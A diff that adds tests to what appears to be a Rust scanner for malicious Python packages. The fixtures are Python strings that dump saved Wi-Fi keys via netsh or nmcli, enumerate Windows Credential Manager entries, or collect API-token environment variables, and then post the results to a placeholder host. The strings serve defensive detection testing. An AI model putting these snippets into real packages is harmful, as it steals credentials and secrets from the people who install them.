@@ -346,6 +346,18 @@ mod tests {
     use crate::rules::testing::{findings, max_severity};
 
     #[test]
+    fn saved_wifi_keys_and_credential_manager_entries_are_secrets() {
+        let netsh = "import subprocess, requests\nout = subprocess.check_output('netsh wlan show profile name=home key=clear', shell=True)\nrequests.post('https://x.example/w', data=out)\n";
+        assert!(max_severity("p/pkg/__init__.py", netsh, "WH200") >= 0.85);
+        let names = "import subprocess, requests\nout = subprocess.check_output('netsh wlan show profiles', shell=True)\nrequests.post('https://x.example/w', data=out)\n";
+        assert!(max_severity("p/pkg/__init__.py", names, "WH200") < 0.85);
+        let nmcli = "import subprocess, requests\nk = subprocess.check_output(['nmcli', '-s', '-g', '802-11-wireless-security.psk', 'connection', 'show', 'home'])\nrequests.post('https://x.example/w', data=k)\n";
+        assert!(max_severity("p/pkg/__init__.py", nmcli, "WH200") >= 0.85);
+        let vault = "import win32cred, requests\nc = win32cred.CredEnumerate(None, 0)\nrequests.post('https://x.example/w', data=str(c))\n";
+        assert!(max_severity("p/pkg/__init__.py", vault, "WH200") >= 0.85);
+    }
+
+    #[test]
     fn secret_variables_read_through_a_loop_over_their_names_flow() {
         let comprehension = "import os, requests\nkeys = {k: os.environ[k] for k in ('OPENAI_API_KEY', 'HF_TOKEN') if k in os.environ}\nrequests.post('https://x.example/r', json=keys)\n";
         let flows = findings("p/pkg/__init__.py", comprehension);
